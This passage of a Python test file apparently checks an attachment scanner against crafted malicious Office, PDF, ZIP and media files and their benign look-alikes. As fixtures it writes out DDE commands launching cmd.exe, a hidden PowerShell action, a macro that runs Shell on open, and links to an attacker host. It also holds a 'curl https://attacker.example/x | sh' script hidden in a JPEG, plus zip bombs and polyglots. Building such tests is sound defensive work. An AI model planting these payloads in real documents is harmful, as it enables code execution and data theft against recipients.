    18:1, under the ratio rule (cached: a 70 MB one takes a second to build). Binary, so
    that only the antivirus reads it: text would be read by the text engine too."""
    rng = random.Random(8)
    block = b"".join(bytes([rng.randrange(256)]) + bytes(range(128, 168)) for _ in range(22_000))
    return zipped([("records.bin", block * (megabytes * 1_000_000 // len(block)))])


def _with_archives(count: int, megabytes: int) -> bytes:
    """A letter carrying ``count`` zips (`_data_archive`): each under every limit."""
    return _with_members(
        *((f"customXml/data{i}.bin", _data_archive(megabytes)) for i in range(count))
    )


def _rtf_package() -> bytes:
    group = b"{\\object\\objemb{\\*\\objclass Package}\\objw1000\\objh500{\\*\\objdata @}}"
    return rtf_bin(group, ole1_object("Package", ole_native("x.exe", PROGRAM, with_size=False)))


def _rtf_picture() -> bytes:
    return rtf_bin(b"{\\pict\\pngblip\\picw160\\pich120\\picwgoal2400\\pichgoal1800 @}", png())


def _book() -> bytes:
    return workbook(worksheet(cell_text("total")))


def _big_book() -> bytes:
    from attachguard.samples import order_rows, xlsx

    return xlsx(order_rows(200))


def _macro_enabled() -> bytes:
    macro = vba_project('Sub Workbook_Open()\r\n    Shell "calc.exe"\r\nEnd Sub')
    return workbook(
        worksheet(cell_text("total")),
        rels=[(_VBA_REL, "vbaProject.bin", False)],
        extra={"xl/vbaProject.bin": macro},
        main_type=_MACRO_BOOK,
    )


# -- the cases ----------------------------------------------------------------------------------

# (id, file name, builder, expected code: None for a benign look-alike)
Row = tuple[str, str, Callable[[], bytes], str | None]
WF = "letter.docx"
SPLIT_DDE = field(" DDE", "AUTO c:\\\\Windows\\\\System32\\\\cmd.exe ", '"/k calc.exe"')
INCLUDES = {
    "http": 'INCLUDEPICTURE "http://attacker.example/logo.png" \\d',
    "unc": 'INCLUDETEXT "\\\\\\\\attacker.example\\\\share\\\\terms.docx"',
    "file": 'IMPORT "file:///C:/Users/Public/chart.wmf"',
    "link": 'LINK Excel.Sheet.12 "\\\\\\\\attacker.example\\\\s\\\\book.xlsx" "Sheet1!R1C1" \\a',
}
WORD_FIELDS: list[Row] = [
    ("word-dde-split-runs", WF, partial(word, SPLIT_DDE), "DDE"),
    ("word-dde-one-run", WF, partial(word, field_in_one_run(DDE_COMMAND)), "DDE"),
    *(
        (f"word-dde-in-{w.lower()}", WF, partial(word, field(DDE_COMMAND), w), "DDE")
        for w in ("ins", "hyperlink", "smartTag", "sdt")
    ),
    ("word-dde-nested", WF, partial(word, nested_field("IF 1 = 1", DDE_COMMAND)), "DDE"),
    ("word-dde-fldsimple", WF, partial(word, simple_field(DDE_COMMAND)), "DDE"),
    ("word-includepicture-http", WF, partial(word, field(INCLUDES["http"])), "EXTERNAL_LINK"),
    ("word-includetext-unc", WF, partial(word, field(INCLUDES["unc"])), "EXTERNAL_LINK"),
    ("word-import-file", WF, partial(word, field(INCLUDES["file"])), "EXTERNAL_LINK"),
    ("word-link-unc", WF, partial(word, field(INCLUDES["link"])), "EXTERNAL_LINK"),
    (
        "word-includepicture-fldsimple",
        WF,
        partial(word, simple_field(INCLUDES["http"])),
        "EXTERNAL_LINK",
    ),
    *(
        (f"word-page-in-{w.lower()}", WF, partial(word, field(" PAGE "), w), None)
        for w in ("ins", "hyperlink", "smartTag", "sdt")
    ),
    ("word-page-split-runs", WF, partial(word, field(" PA", "GE ", "\\* MERGEFORMAT ")), None),
    ("word-page-one-run", WF, partial(word, field_in_one_run(" PAGE ")), None),
    ("word-if-nested-page", WF, partial(word, nested_field("IF 1 = 1", " PAGE ")), None),
    ("word-fldsimple-date", WF, partial(word, simple_field(' DATE \\@ "d MMMM yyyy" ')), None),
    ("word-text-says-ddeauto", WF, partial(word, _run(f"<w:t>{escape(DDE_COMMAND)}</w:t>")), None),
    (
        "word-ref-toc-fields",
        WF,
        partial(word, field(" REF _Ref4711 \\h ") + field(" TOC \\o ")),
        None,
    ),
]
EXTERNAL_RELS: list[Row] = [
    (
        "rels-image-http",
        WF,
        partial(_linked, "image", "http://attacker.example/p.png"),
        "EXTERNAL_LINK",
    ),
    (
        "rels-image-unc",
        WF,
        partial(_linked, "image", "\\\\attacker.example\\share\\p.png"),
        "EXTERNAL_LINK",
    ),
    (
        "rels-oleobject-unc",
        WF,
        partial(_linked, "oleObject", "\\\\attacker.example\\s\\b.xlsx"),
        "EXTERNAL_LINK",
    ),
    (
        "rels-subdocument-file",
        WF,
        partial(_linked, "subDocument", "file:///C:/Users/Public/a.docx"),
        "EXTERNAL_LINK",
    ),
    (
        "rels-custom-type-http",
        WF,
        partial(
            _linked, "http://schemas.example/relationships/webTracker", "https://attacker.example/t"
        ),
        "EXTERNAL_LINK",
    ),
    (
        "rels-template-file-host",
        WF,
        partial(_settings_link, "attachedTemplate", "file://attacker.example/t/normal.dotm"),
        "EXTERNAL_LINK",
    ),
    (
        "rels-frame-https",
        WF,
        partial(_settings_link, "frame", "https://attacker.example/f.html"),
        "EXTERNAL_LINK",
    ),
    (
        "rels-pptx-video-http",
        "deck.pptx",
        partial(
            presentation,
            "",
            [("video", "http://attacker.example/v.mp4", True)],
            '<a:videoFile r:link="rId1"/>',
        ),
        "EXTERNAL_LINK",
    ),
    ("rels-xlsx-linked-picture", "orders.xlsx", _xlsx_linked_picture, "EXTERNAL_LINK"),
    (
        "rels-hyperlink-https",
        WF,
        partial(
            word,
            '<w:hyperlink r:id="rId1"><w:r><w:t>track your parcel</w:t></w:r></w:hyperlink>',
            rels=[("hyperlink", "https://tracking.example/4711", True)],
        ),
        None,
    ),
    (
        "rels-image-internal",
        WF,
        partial(
            word,
            _LINKED_IMAGE.replace("r:link", "r:embed"),
            rels=[("image", "media/image1.png", False)],
            parts={"word/media/image1.png": png()},
        ),
        None,
    ),
]
PPTX_ACTIONS: list[Row] = [
    (
        "ppt-program-click",
        "deck.pptx",
        partial(
            _action, "hlinkClick", "ppaction://program", "file:///C:/Windows/System32/calc.exe"
        ),
        "OFFICE_ACTION",
    ),
    (
        "ppt-program-hover",
        "deck.pptx",
        partial(
            _action, "hlinkHover", "ppaction://program", "powershell -NoP -W Hidden -c calc.exe"
        ),
        "OFFICE_ACTION",
    ),
    (
        "ppt-macro-click",
        "deck.pptx",
        partial(_action, "hlinkClick", "ppaction://macro?name=Module1.Run"),
        "OFFICE_ACTION",
    ),
    ("ppt-ole-hover", "deck.pptx", _ole_on_hover, "OLE_OBJECT"),
    (
        "ppt-hyperlink-https",
        "deck.pptx",
        partial(_action, "hlinkClick", "", "https://tracking.example/4711"),
        None,
    ),
    (
        "ppt-next-slide-hover",
        "deck.pptx",
        partial(_action, "hlinkHover", "ppaction://hlinkshowjump?jump=nextslide"),
        None,
    ),
]
XF = "orders.xlsx"
XLSX_FORMULAS: list[Row] = [
    ("xlsx-dde-sheet-elsewhere", XF, partial(_dde_sheet, "xl/data/orders.xml"), "DDE"),
    ("xlsx-dde-sheet-outside-xl", XF, partial(_dde_sheet, "sheets/orders.xml"), "DDE"),
    ("xlsx-dde-sheet-upper-ext", XF, partial(_dde_sheet, "xl/worksheets/s1.XML"), "DDE"),
    ("xlsx-dde-prefixed", XF, partial(_dde_sheet, prefix="x"), "DDE"),
    ("xlsx-dde-pipe-entity", XF, partial(_dde_sheet, raw="cmd&#124;' /C calc.exe'!A0"), "DDE"),
    ("xlsx-dde-cdata", XF, partial(_dde_sheet, raw=f"<![CDATA[{CELL_DDE}]]>"), "DDE"),
    (
        "xlsx-ddelink-outside-xl",
        XF,
        partial(
            workbook,
            worksheet(cell_text("total")),
            rels=[("externalLink", "/links/l1.xml", False)],
            extra={"links/l1.xml": _DDE_LINK},
        ),
        "DDE",
    ),
    (
        "xlsx-formula-sheet-elsewhere",
        XF,
        partial(
            workbook, worksheet(formula('IF(B2&gt;0,"yes|no","")', raw=True)), "xl/data/orders.xml"
        ),
        None,
    ),
    (
        "xlsx-formula-prefixed",
        XF,
        partial(workbook, worksheet(formula("SUM(A1:A3)", prefix="x"), prefix="x")),
        None,
    ),
    (
        "xlsx-text-cell-says-dde",
        XF,
        partial(workbook, worksheet(cell_text(CELL_DDE) + cell_text("=cmd&#124;x"))),
        None,
    ),
]
MSI_STREAMS = {"\x05SummaryInformation": bytes(64), "\u4840\u3f3f\u4577\u446c\u3b6a": PROGRAM}
LEGACY_OLE: list[Row] = [
    ("ole-msi-named-doc", "form.doc", partial(ole_tree, MSI_STREAMS, _CLSID["msi"]), "EXECUTABLE"),
    (
        "ole-unknown-clsid-doc",
        "form.doc",
        partial(ole_tree, {"Contents": PROGRAM, "\x01CompObj": bytes(64)}, _CLSID["unknown"]),
        "TYPE_MISMATCH",
    ),
    (
        "ole-word-clsid-no-worddocument",
        "form.doc",
        partial(ole_tree, {"Data": PROGRAM, "1Table": bytes(512)}, _CLSID["word"]),
        "TYPE_MISMATCH",
    ),
    *(
        (f"xls-xlm-root-clsid-{c or 'none'}", "orders.xls", partial(_macro_book, c), "XLM_MACRO")
        for c in ("word", "unknown", "", "excel")
    ),
    ("xls-worksheets-only", "orders.xls", partial(_macro_book, "excel", 0), None),
]
PF, JS = "invoice.pdf", "PDF_JAVASCRIPT"
PDF_CASES: list[Row] = [
    ("pdf-unlisted-object", PF, partial(pdf, [*_OPENS_6, (6, JS_ACTION)], frozenset({6})), JS),
    (
        "pdf-duplicate-second-hostile",
        PF,
        partial(pdf, [*_OPENS_6, (6, GOTO_ACTION), (6, JS_ACTION)]),
        JS,
    ),
    (
        "pdf-duplicate-first-hostile",
        PF,
        partial(pdf, [*_OPENS_6, (6, JS_ACTION), (6, GOTO_ACTION)], last_wins=True),
        JS,
    ),
    ("pdf-object-stream-listed", PF, partial(pdf_object_stream, JS_ACTION, True), JS),
    ("pdf-object-stream-unlisted", PF, partial(pdf_object_stream, JS_ACTION, False), JS),
    (
        "pdf-name-escape-js",
        PF,
        partial(pdf, page_objects(b" /OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>")),
        JS,
    ),
    ("pdf-name-escape-launch", PF, partial(pdf, [*_OPENS_6, (6, LAUNCH_ACTION)]), "PDF_LAUNCH"),
    ("pdf-broken-xref", PF, partial(pdf, [*_OPENS_6, (6, JS_ACTION)], shift=7), JS),
    (
        "pdf-program-between-revisions",
        PF,
        partial(pdf_update, _PDF_BASE, _PDF_EDIT, PROGRAM),
        "POLYGLOT",
    ),
    (
        "pdf-zip-between-revisions",
        PF,
        partial(pdf_update, _PDF_BASE, _PDF_EDIT, _ARCHIVE),
        "POLYGLOT",
    ),
    ("pdf-incremental-update", PF, partial(pdf_update, _PDF_BASE, _PDF_EDIT, b"\n"), None),
    ("pdf-object-stream-goto", PF, partial(pdf_object_stream, GOTO_ACTION, True), None),
    ("pdf-broken-xref-plain", PF, partial(pdf, page_objects(), shift=7), None),
    ("pdf-goto-on-open", PF, partial(pdf, [*_OPENS_6, (6, GOTO_ACTION)]), None),
    (
        "pdf-text-quotes-pdf-syntax",
        PF,
        partial(
            pdf,
            page_objects(text="Never trust 6 0 obj << /S /JavaScript /JS \\(x\\) >> in a mail."),
        ),
        None,
    ),
]
ZIP_STRUCTURE: list[Row] = [
    ("zip-duplicate-second-hostile", WF, partial(_twice, False), "AMBIGUOUS"),
    ("zip-duplicate-first-hostile", WF, partial(_twice, True), "AMBIGUOUS"),
    ("zip-name-backslash", WF, partial(_alias, "word\\document.xml"), "AMBIGUOUS"),
    ("zip-name-absolute", WF, partial(_alias, "/word/document.xml"), "AMBIGUOUS"),
    ("zip-name-dotdot", WF, partial(_alias, "word/../word/document.xml"), "AMBIGUOUS"),
    ("zip-orphan-local-entry", WF, _orphan, "AMBIGUOUS"),
    (
        "zip-overlapping-members",
        WF,
        _changed("word/document.xml", hides=Entry("word/media/setup.exe", PROGRAM)),
        "AMBIGUOUS",
    ),
    ("zip-data-between-entries", WF, _changed("word/document.xml", before=PROGRAM), "AMBIGUOUS"),
    ("zip-expansion-across-members", WF, partial(_with_archives, 3, 70), "ARCHIVE_EXPANSION"),
    ("zip-streamed-with-descriptors", WF, _changed("", streamed=True), None),
    (
        "zip-stored-unicode-names",
        WF,
        partial(_with_member, "word/media/Bild 1 (Kopie) \u00e4.png", png(), True),
        None,
    ),
    (
        "zip-same-name-other-folders",
        WF,
        partial(
            _with_members,
            ("customXml/item1.xml", b"<a/>"),
            ("customXml/_rels/item1.xml.rels", rels_xml([])),
            ("docProps/item1.xml", b"<b/>"),
        ),
        None,
    ),
    ("zip-many-parts-within-limits", WF, partial(_with_archives, 2, 8), None),
]
ICC_LIKE = b"ICC_PROFILE\0\1\1" + bytes(range(256)) * 2
SCRIPT = b"#!/bin/sh\ncurl https://attacker.example/x | sh\n"
POLYGLOTS: list[Row] = [
    ("jpeg-zip-after-junk-before-end", "photo.jpg", lambda: jpeg() + _JUNK_BEFORE_END, "POLYGLOT"),
    (
        "png-zip-after-junk-before-end",
        "photo.png",
        partial(png, after=_JUNK_BEFORE_END),
        "POLYGLOT",
    ),
    (
        "jpeg-zip-in-comment",
        "photo.jpg",
        partial(jpeg, segment(0xFE, _ARCHIVE), size=(640, 480)),
        "POLYGLOT",
    ),
    (
        "png-zip-in-private-chunk",
        "photo.png",
        partial(png, chunk(b"prVt", _ARCHIVE), size=(400, 300)),
        "POLYGLOT",
    ),
    ("jpeg-com-program", "photo.jpg", partial(jpeg, segment(0xFE, PROGRAM)), "POLYGLOT"),
    ("jpeg-app9-html", "photo.jpg", partial(jpeg, segment(0xE9, HTML)), "POLYGLOT"),
    ("jpeg-com-script", "photo.jpg", partial(jpeg, segment(0xFE, SCRIPT)), "POLYGLOT"),
    ("mp4-free-box-program", "clip.mp4", partial(video, box(b"free", PROGRAM)), "POLYGLOT"),
    (
        "mov-skip-box-zip",
        "clip.mov",
        partial(video, box(b"skip", _ARCHIVE), brand=b"qt  "),
        "POLYGLOT",
    ),
    ("mp4-unknown-box-html", "clip.mp4", partial(video, box(b"abcd", HTML)), "POLYGLOT"),
    (
        "wav-lying-size-program",
        "call.wav",
        partial(wav, 0xFFFFFFFF, riff_chunk(b"junk", PROGRAM)),
        "POLYGLOT",
    ),
    ("wav-chunk-program", "call.wav", partial(wav, None, riff_chunk(b"exe ", PROGRAM)), "POLYGLOT"),
    (
        "jpeg-comment-and-icc",
        "photo.jpg",
        partial(jpeg, segment(0xFE, b"Created with GIMP"), segment(0xE2, ICC_LIKE)),
        None,
    ),
    (
        "png-text-chunks",
        "photo.png",
        partial(png, chunk(b"tEXt", b"Software\0Screenshot tool"), chunk(b"tIME", bytes(7))),
        None,
    ),
    ("mp4-free-box-padding", "clip.mp4", partial(video, box(b"free", bytes(2048))), None),
    ("wav-streamed-sizes", "call.wav", partial(wav, 0xFFFFFFFF, data_size=0xFFFFFFFF), None),
    (
        "wav-list-info",
        "call.wav",
        partial(wav, None, riff_chunk(b"LIST", b"INFOISFT" + struct.pack("<I", 8) + b"Recorder")),
        None,
    ),
]
NOTES = b"Tested the gateway with the EICAR-STANDARD-ANTIVIRUS-TEST-FILE, all fine.\n"
BOMBS_AND_DISGUISES: list[Row] = [
    (
        "png-declares-huge-image",
        "photo.png",
        partial(png_header, 100_000, 100_000, 64),
        "IMAGE_BOMB",
    ),
    ("png-ordinary-photo", "photo.png", png, None),
    ("rtf-bin-object", "form.rtf", _rtf_package, "OLE_OBJECT"),
    ("rtf-bin-picture", "form.rtf", _rtf_picture, None),
    ("docx-encrypted-named-xlsx", XF, lambda: encrypted(_letter(), "s3cret"), "ENCRYPTED"),
    # a workbook big enough that msoffcrypto's writer stores the encrypted package as Excel
    # does (a package under 4 KB lands in regular sectors, where readers find garbage)
    ("xlsx-default-password", XF, lambda: encrypted(_big_book(), "VelvetSweatshop"), None),
    ("xlsm-renamed-xlsx", XF, _macro_enabled, "VBA_MACRO"),
    (
        "xlsx-printer-settings",
        XF,
        partial(
            workbook,
            worksheet(cell_text("total")),
            extra={"xl/printerSettings/printerSettings1.bin": bytes(range(256)) * 4},
        ),
        None,
    ),
    ("txt-mentions-eicar", "notes.txt", lambda: NOTES, None),
]
_TABLES = {
    "word-fields": WORD_FIELDS,
    "external-rels": EXTERNAL_RELS,
    "pptx-actions": PPTX_ACTIONS,
    "xlsx-formulas": XLSX_FORMULAS,
    "legacy-ole": LEGACY_OLE,
    "pdf": PDF_CASES,
    "zip-structure": ZIP_STRUCTURE,
    "polyglot": POLYGLOTS,
    "bombs-disguises": BOMBS_AND_DISGUISES,
}

CASES: list[Case] = [
    Case(case_id, cls, name, build, expect is not None, expect)
    for cls, rows in _TABLES.items()
    for case_id, name, build, expect in rows
] + [
    # a nested bomb (1.2 GB in 2 KB) should be rejected at once, with one finding or a few
    Case(
        "zip-bomb-nested-in-docx",
        "bombs-disguises",
        WF,
        lambda: _with_member("word/media/archive.zip", bomb(4, 6, 900_000)),
        True,
        "ARCHIVE_DEPTH",
        max_findings=10,
        max_seconds=30.0,  # 1.2 s on a quiet machine; bounds a blow-up (19 s with 4,097 findings)
    ),
    # EICAR is malware, whatever Magika thinks its 68 bytes are
    Case("eicar-in-txt", "bombs-disguises", "notes.txt", lambda: EICAR, True, "MALWARE", only=True),
]
